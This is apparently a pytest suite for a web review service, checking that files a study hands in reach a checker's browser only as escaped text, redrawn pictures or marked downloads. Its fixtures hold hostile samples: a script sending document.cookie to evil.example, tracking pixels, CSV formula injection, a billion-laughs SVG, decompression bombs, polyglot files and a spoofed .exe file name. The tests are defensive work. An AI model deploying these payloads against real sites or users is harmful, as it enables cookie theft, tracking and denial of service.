"""[P9] What a study made is never served as itself: it is text in our cells, a picture drawn anew, or a marked download."""

import gzip
import io
import struct
import zipfile
import zlib

import pytest
from PIL import Image

from tests.web.review_world import offered
from tre.web.inside.drawn import redrawn

SCRIPT = "<script>fetch('http://evil.example/'+document.cookie)</script>"
PIXEL = '<img src="http://evil.example/pixel.png" onerror="alert(1)">'
HTML = f"<!doctype html><html><body>{SCRIPT}{PIXEL}</body></html>".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}</svg>'.encode()
CSV = f'region,people\n"{SCRIPT}",25\n=HYPERLINK("http://evil.example"),30\n{PIXEL},35\n'.encode()
HEADED = f"{PIXEL},people\nx,25\n".encode()


def png(width: int = 4, height: int = 4) -> bytes:
    made = io.BytesIO()
    Image.new("RGB", (width, height), "green").save(made, "PNG")
    return made.getvalue()


def bomb() -> bytes:
    """A PNG of a few kilobytes that says it is 60,000 pixels square."""
    head = b"\x89PNG\r\n\x1a\n"

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    rows = zlib.compress(b"\0" * 1_000_000)
    return (
        head + chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)) + chunk(b"IDAT", rows)
    )


def zipped(*, size: int = 50_000_000) -> bytes:
    """A ZIP of some kilobytes that unpacks to a hundred times as much as a checker's page would take."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("page.html", HTML)
        archive.writestr("zeros.csv", bytes(size))
    return made.getvalue()


def jpeg() -> bytes:
    """A JPEG whose comment is a page."""
    made = io.BytesIO()
    Image.new("RGB", (4, 4), "green").save(made, "JPEG", comment=HTML)
    return made.getvalue()


STYLE = b"<style>@import url(http://evil.example/a.css); body { background: url(http://evil.example/b.png) }</style><p>x"
REFRESH = b'<meta http-equiv="refresh" content="0;url=http://evil.example/"><p>x'
LINKED = (
    b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    b'<image href="http://evil.example/pixel.png"/><foreignObject><iframe src="http://evil.example/"/></foreignObject></svg>'
)
LAUGHS = (
    b'<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>'
)
PDF = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n" + HTML
GIF = b"GIF89a/*\x01\x00\x80\x00\x00*/=1;alert(1);//" + HTML

KINDS: dict[str, dict[str, bytes]] = {
    "script in HTML": {"output/page.html": HTML, "output/refresh.html": REFRESH, "output/called.png": HTML},
    "script in SVG": {"output/drawing.svg": SVG, "output/laughs.svg": LAUGHS},
    "script in CSV": {"output/table.csv": CSV, "output/null.csv": b"a,b\n\x00,25\n"},
    "script in a file's name": {
        "output/<script>alert(1)</script>.csv": b"a,b\nx,25\n",
        f"output/{PIXEL}.csv": b"a,b\nx,25\n",
        "output/\u202egnp.exe": b"text",
    },
    "script in a label": {"output/headed.csv": HEADED},
    "tracking pixel": {
        "output/pixel.html": PIXEL.encode(),
        "output/style.html": STYLE,
        "output/linked.svg": LINKED,
        "output/notes.md": b"![x](http://evil.example/pixel.png)\n",
    },
    "zip bomb": {
        "output/bomb.png": bomb(),
        "output/bomb.zip": zipped(),
        "output/bomb.svgz": gzip.compress(bytes(20_000_000)),
    },
    "polyglot": {
        "output/polyglot.png": png() + HTML,
        "output/archive.png": png() + zipped(size=10),
        "output/page.jpg": jpeg(),
        "output/script.gif": GIF,
        "output/paper.pdf": PDF,
    },
}
"""What a study could hand in to run something in a checker's browser, or to call out from it, by kind; words are beside it."""
WORDS = {"script in a comment": SCRIPT + PIXEL}
HOSTILE = {path: content for files in KINDS.values() for path, content in files.items()}


def test_every_kind_that_was_promised_is_tried() -> None:
    promised = {
        *(f"script in {place}" for place in ("HTML", "SVG", "CSV", "a file's name", "a label", "a comment")),
        "tracking pixel",
        "zip bomb",
        "polyglot",
    }
    assert {*KINDS, *WORDS} == promised
    assert all(files for files in KINDS.values())


@pytest.mark.parametrize("side", ["raw", "offered"])
def test_no_page_holds_a_study_s_markup_as_markup(desk, side: str) -> None:
    request = offered(desk, HOSTILE)
    for number in range(len(HOSTILE)):
        answer = desk.get("cleo", f"/review/{request}?file={number}&side={side}")
        assert answer.status_code == 200
        assert "<script>fetch" not in answer.text
        assert "<script>alert" not in answer.text
        assert 'src="http' not in answer.text
        assert "onload=" not in answer.text.replace("onload=&#34;", "")
        assert "\u202e" not in answer.text
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        assert "'unsafe-inline'" not in policy


def test_a_remark_with_markup_is_words(desk) -> None:
    request = offered(desk, {"output/one.csv": b"a,b\nx,25\n"})
    said = {"file": "0", "side": "offered", "words": SCRIPT}
    assert desk.post("cleo", f"/review/{request}/remark", said).status_code == 303
    page = desk.get("cleo", f"/review/{request}").text
    assert "<script>fetch" not in page
    assert "&lt;script&gt;fetch" in page


def test_a_picture_is_pixels_and_nothing_that_was_hidden_in_it(desk) -> None:
    request = offered(desk, HOSTILE)
    place = list(HOSTILE).index("output/polyglot.png")
    answer = desk.get("cleo", f"/review/{request}/picture?file={place}")
    assert answer.headers["content-type"] == "image/png"
    assert "sandbox" in answer.headers["content-security-policy"]
    assert b"script" not in answer.content
    assert Image.open(io.BytesIO(answer.content)).size == (4, 4)


def test_a_picture_too_large_to_draw_is_not_drawn(desk) -> None:
    request = offered(desk, HOSTILE)
    place = list(HOSTILE).index("output/bomb.png")
    assert desk.get("cleo", f"/review/{request}/picture?file={place}").status_code == 404
    assert redrawn(bomb()) is None


def test_what_is_only_called_a_picture_is_text(desk) -> None:
    request = offered(desk, HOSTILE)
    place = list(HOSTILE).index("output/called.png")
    assert desk.get("cleo", f"/review/{request}/picture?file={place}").status_code == 404
    assert "&lt;script&gt;" in desk.get("cleo", f"/review/{request}?file={place}").text


def test_a_copy_is_a_download_that_names_who_took_it_and_is_on_the_ledger(desk) -> None:
    request = offered(desk, HOSTILE)
    answer = desk.post("cleo", f"/review/{request}/copy", {"file": "0", "side": "raw"})
    assert answer.headers["content-disposition"].startswith("attachment;")
    assert "sandbox" in answer.headers["content-security-policy"]
    with zipfile.ZipFile(io.BytesIO(answer.content)) as bundle:
        assert b"cleo" in bundle.read("WHO-TOOK-THIS.txt")
        assert bundle.read("page.html.txt").startswith(b"# Unreleased. Taken by cleo")
    actors = [
        each.actor
        for each in desk.common.service.ledger.case_events(request)
        if each.event.kind == "request.viewed"
    ]
    assert actors == ["cleo"]


@pytest.mark.parametrize("person", ["ada", "ben", "eve", ""])
def test_nobody_but_an_independent_checker_has_a_copy_or_a_picture(desk, person: str) -> None:
    request = offered(desk, HOSTILE)
    assert desk.get(person, f"/review/{request}/picture?file=6").status_code in {303, 403}
    answer = desk.post(person, f"/review/{request}/copy", {"file": "0", "side": "raw"})
    assert answer.status_code in {303, 403}
    assert b"evil.example" not in answer.content
